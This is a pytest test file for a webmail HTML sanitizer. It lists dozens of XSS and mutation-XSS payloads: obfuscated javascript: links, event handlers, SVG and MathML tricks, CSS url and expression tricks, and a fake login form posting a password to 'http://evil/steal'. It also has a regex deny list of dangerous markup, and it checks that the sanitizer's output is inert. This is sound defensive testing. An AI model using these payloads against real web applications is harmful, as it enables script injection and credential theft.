"""plugins.webmail.sanitize: hostile HTML in, inert HTML out, the text kept."""

import re
from urllib.parse import unquote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from plugins.webmail.sanitize import LINK_PREFIX, SanitizedHtml, link_url, sanitize_html, text_to_html

DANGEROUS = [
    r"<script", r"<style", r"<iframe", r"<object", r"<embed", r"<svg", r"<math", r"<base", r"<meta",
    r"<link", r"<form", r"<input", r"<button", r"<textarea", r"<select", r"<frame", r"<applet",
    r"\son\w+\s*=", r"javascript:", r"vbscript:", r"data:text", r"expression\s*\(", r"url\s*\(",
    r"@import", r"srcset", r"<!--", r"http-equiv", r"formaction", r"xlink",
]


def clean(html: str, **kwargs) -> SanitizedHtml:
    kwargs.setdefault("allow_remote_images", False)
    return sanitize_html(html, **kwargs)


def assert_inert(output: str) -> None:
    lowered = output.lower()
    for pattern in DANGEROUS:
        assert not re.search(pattern, lowered), f"{pattern!r} in {output!r}"
    for href in re.findall(r'href="([^"]*)"', output):
        assert href.startswith(LINK_PREFIX), href
    for src in re.findall(r'src="([^"]*)"', output):
        assert src.startswith(("data:image/", "/webmail/")) or src.startswith(("http://", "https://")), src


HOSTILE = {
    "script": '<p>正文</p><script>alert("x")</script><SCRIPT SRC=http://evil/x.js></SCRIPT>',
    "script in attribute context": '<p title="</p><script>alert(1)</script>">正文</p>',
    "onerror": '<img src=x onerror="alert(1)"><p>正文</p>',
    "onload": '<body onload=alert(1)><p onmouseover="alert(1)" onclick=alert(1)>正文</p></body>',
    "javascript link": '<a href="javascript:alert(1)">正文</a>',
    "javascript mixed case": '<a href="JaVaScRiPt:alert(1)">正文</a>',
    "javascript entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">正文</a>',
    "javascript hex entities": '<a href="&#x6A;avascript&#x3A;alert(1)">正文</a>',
    "javascript tab": '<a href="java\tscript:alert(1)">正文</a>',
    "javascript entity tab": '<a href="java&#x09;script:alert(1)">正文</a>',
    "javascript newline": '<a href="java\nscript:alert(1)">正文</a>',
    "javascript leading space": '<a href=" \x01javascript:alert(1)">正文</a>',
    "javascript null": '<a href="java\x00script:alert(1)">正文</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">正文</a>',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">正文</a>',
    "data html image": '<img src="data:text/html,<script>alert(1)</script>"><p>正文</p>',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><p>正文</p>',
    "css expression": '<p style="width: expression(alert(1))">正文</p>',
    "css url javascript": '<p style="background-image: url(javascript:alert(1))">正文</p>',
    "css escaped url": '<p style="background: u\\72l(http://evil/x)">正文</p>',
    "css comment": '<p style="color: red/**/;background:ur/**/l(http://x)">正文</p>',
    "css import in style element": "<style>@import 'http://evil/x.css'; p{background:url(http://t/x)}</style><p>正文</p>",
    "css behavior": '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#y)">正文</p>',
    "css position overlay": '<div style="position: fixed; top: 0; left: 0; z-index: 99">正文</div>',
    "svg script": "<svg><script>alert(1)</script></svg><p>正文</p>",
    "svg onload": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x /></svg><p>正文</p>",
    "svg use xlink": '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg><p>正文</p>',
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>正文</p>",
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math><p>正文</p>',
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>正文</p>',
    "comment mxss": "<!--<img src=x onerror=alert(1)>--><p>正文</p>",
    "template": "<template><img src=x onerror=alert(1)></template><p>正文</p>",
    "base": '<base href="http://evil/"><a href="/path">正文</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil/"><p>正文</p>',
    "link stylesheet": '<link rel="stylesheet" href="http://evil/x.css"><p>正文</p>',
    "form": '<form action="http://evil/steal" method=post><input name=password type=password><button formaction="http://evil">登录</button></form><p>正文</p>',
    "iframe": '<iframe src="http://evil/"></iframe><p>正文</p>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>正文</p>',
    "object": '<object data="http://evil/x.swf"><embed src="http://evil/x.swf"></object><p>正文</p>',
    "frameset": '<frameset><frame src="http://evil/"></frameset><p>正文</p>',
    "video": '<video src=x onerror=alert(1) poster="http://t/p.png"></video><p>正文</p>',
    "unclosed attribute": '<p>正文</p><img src="x" onerror="alert(1)',
    "nested tags": "<scr<script>ipt>alert(1)</script><p>正文</p>",
    "table background": '<table background="http://t/bg.png"><tr><td background="http://t/x">正文</td></tr></table>',
    "xml namespace": '<html xmlns:x="http://evil"><x:script>alert(1)</x:script><p>正文</p></html>',
}


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("allow_remote_images", [False, True])
def test_hostile_html_is_inert_and_the_text_survives(html, allow_remote_images):
    result = clean(html, allow_remote_images=allow_remote_images, cid_url=lambda cid: f"/webmail/cid/{cid}")
    assert_inert(result.html)
    assert "正文" in result.html or "登录" in result.html


def test_script_content_is_dropped_not_shown():
    result = clean("<p>正文</p><script>var secret = 1;</script><style>p { color: red }</style>")
    assert result.html == "<p>正文</p>"


def test_a_whole_document_keeps_the_body():
    html = (
        "<!DOCTYPE html><html><head><meta charset=utf-8><title>标题</title>"
        "<style>.x{}</style></head><body><div>你好</div></body></html>"
    )
    assert clean(html).html == "<div>你好</div>"


def test_formatting_survives():
    html = (
        '<h1>通知</h1><p dir="ltr" align="center"><b>粗</b><i>斜</i><u>下</u><strong>强</strong>'
        '<font color="#ff0000" face="宋体" size="3">字体</font></p>'
        '<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#eeeeee">单元</td></tr></table>'
        '<ul><li>一</li></ul><ol start="3"><li>二</li></ol><blockquote>引用</blockquote><pre>  代码</pre><hr><br>'
    )
    out = clean(html).html
    for piece in ("<h1>通知</h1>", "<b>粗</b>", "<i>斜</i>", "<u>下</u>", '<font color="#ff0000" face="宋体" size="3">',
                  'colspan="2"', 'bgcolor="#eeeeee"', "<li>一</li>", 'start="3"', "<blockquote>", "<pre>  代码</pre>", "<hr>"):
        assert piece in out


def test_safe_styles_are_kept_and_others_removed():
    out = clean(
        '<p style="color: #333; FONT-WEIGHT: bold; font-family: \'Microsoft YaHei\', 宋体; position: absolute; '
        'background: url(http://t/x.png); margin: 0 auto; background-color: rgb(255, 0, 0)">x</p>'
    ).html
    assert "color: #333" in out and "font-weight: bold" in out and "margin: 0 auto" in out
    assert "background-color: rgb(255, 0, 0)" in out
    assert "position" not in out and "url" not in out
    assert "font-family: 'Microsoft YaHei', 宋体" in out
    assert clean('<p style="position: fixed">x</p>').html == "<p>x</p>"


def test_links_go_through_the_warning_page():
    out = clean('<a href="https://www.gov.cn/zhengce/?a=1&b=中文#top">政策</a> <a href="mailto:office@gov.cn">信</a>').html
    hrefs = re.findall(r'href="([^"]*)"', out)
    assert [unquote(h[len(LINK_PREFIX):].replace("&amp;", "&")) for h in hrefs] == [
        "https://www.gov.cn/zhengce/?a=1&b=中文#top", "mailto:office@gov.cn"
    ]
    assert out.count('target="_blank"') == 2 and out.count('rel="noopener noreferrer"') == 2
    assert link_url("https://a.cn/?x=1&y=2") == "/webmail/link?url=https%3A%2F%2Fa.cn%2F%3Fx%3D1%26y%3D2"


def test_relative_and_other_scheme_links_lose_the_href_keep_the_text():
    for href in ("/relative", "page.html", "#anchor", "ftp://x/", "file:///etc/passwd", "tel:123", "cid:x"):
        out = clean(f'<a href="{href}">文字</a>').html
        assert "href" not in out and "文字" in out


def test_a_rel_or_target_from_the_message_is_replaced():
    out = clean('<a href="https://a.cn" rel="opener" target="_top">x</a>').html
    assert 'rel="noopener noreferrer"' in out and 'target="_blank"' in out
    assert "opener\"" not in out.replace("noopener", "") and "_top" not in out


def test_remote_images_are_blocked_and_counted():
    html = (
        '<p>正文</p><img src="http://track.example.com/open.gif?id=1" width="1" height="1">'
        '<img src="https://cdn.example.com/logo.png" alt="徽标"><img src="//cdn.example.com/x.png">'
        '<img srcset="https://cdn.example.com/a.png 1x, https://cdn.example.com/b.png 2x">'
    )
    blocked = clean(html)
    assert blocked.blocked_images == 4
    assert "<img" not in blocked.html and "example.com" not in blocked.html
    assert "<p>正文</p>" in blocked.html

    allowed = clean(html, allow_remote_images=True)
    assert allowed.blocked_images == 0
    assert 'src="http://track.example.com/open.gif?id=1"' in allowed.html
    assert 'src="https://cdn.example.com/logo.png"' in allowed.html
    assert 'src="https://cdn.example.com/x.png"' in allowed.html
    assert "srcset" not in allowed.html


def test_cid_images_are_rewritten_by_the_caller():
    seen = []

    def cid_url(cid: str) -> str:
        seen.append(cid)
        return f"/webmail/messages/7/inline/{cid}"

    out = clean('<img src="cid:logo@example.org" alt="徽标"><img src="CID:%3Cpic%40x%3E">', cid_url=cid_url)
    assert seen == ["logo@example.org", "pic@x"]
    assert '<img src="/webmail/messages/7/inline/logo@example.org" alt="徽标">' in out.html
    assert out.blocked_images == 0
    assert "<img" not in clean('<img src="cid:logo@example.org">').html  # no resolver: dropped
    assert "<img" not in clean('<img src="cid:x">', cid_url=lambda cid: "javascript:alert(1)").html


def test_data_images_only_for_raster_types():
    png = "data:image/png;base64,iVBORw0KGgo="
    for kind in ("png", "gif", "jpeg", "jpg", "webp"):
        src = f"data:image/{kind};base64,AAAA"
        assert f'src="{src}"' in clean(f'<img src="{src}">').html
    for src in ("data:image/svg+xml;base64,PHN2Zz4=", "data:text/html;base64,PHA+", "data:image/png,<svg>",
                "data:application/javascript;base64,YWxlcnQoMSk="):
        assert "<img" not in clean(f'<img src="{src}">').html
    assert clean(f'<img src="{png}">').blocked_images == 0


def test_output_is_stable_when_sanitized_again():
    for html in HOSTILE.values():
        once = clean(html, allow_remote_images=True).html
        # Links were rewritten, so a second pass drops them; attribute order may change.
        twice = clean(once, allow_remote_images=True).html
        link_attributes = re.compile(r' (href|rel|target)="[^"]*"')
        assert link_attributes.sub("", twice) == link_attributes.sub("", once)


@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from([
    "<", ">", "/", "\"", "'", "=", " ", "\t", "script", "img", "src", "onerror", "javascript:", "&#x6A;",
    "svg", "math", "style", "<!--", "-->", "alert(1)", "<a href=", "x", "正文", "url(", "expression(",
    "<![CDATA[", "]]>", "<noscript>", "<template>", "<mglyph>", "<table>", "data:text/html,",
]), max_size=60))
def test_fuzz_nothing_dangerous_comes_out(pieces):
    html = "".join(pieces)
    for allow in (False, True):
        out = sanitize_html(html, allow_remote_images=allow).html
        lowered = out.lower()
        assert "<script" not in lowered and "<svg" not in lowered and "<math" not in lowered and "<style" not in lowered
        assert not re.search(r"<[^>]*\son\w+\s*=", lowered)
        assert not re.search(r'(href|src)="(?!/webmail/|data:image/|https?://)', lowered)


def test_text_to_html():
    out = text_to_html('你好 <b>&"\n见 https://www.gov.cn/a?x=1&y=2。\r\n（http://b.cn/q）结束\nhttp:// alone')
    assert out.startswith("你好 &lt;b&gt;&amp;&quot;<br>\n见 ")
    assert f'<a href="{link_url("https://www.gov.cn/a?x=1&y=2")}" target="_blank" rel="noopener noreferrer">' \
           "https://www.gov.cn/a?x=1&amp;y=2</a>。<br>\n" in out
    assert ">http://b.cn/q</a>）结束<br>\nhttp:// alone" in out
    assert "<b>" not in out


def test_text_to_html_trailing_punctuation_and_parentheses():
    out = text_to_html("See https://en.wikipedia.org/wiki/Foo_(bar), and (https://a.cn/x).")
    assert ">https://en.wikipedia.org/wiki/Foo_(bar)</a>, and" in out
    assert ">https://a.cn/x</a>)." in out


def test_text_to_html_cannot_be_tricked_into_markup():
    out = text_to_html('https://a.cn/"onmouseover="alert(1) <script>x</script> javascript:alert(1)')
    assert "<script" not in out and ' onmouseover="' not in out
    assert out.count("<a ") == 1 and "javascript:alert(1)" in out  # as text, not a link
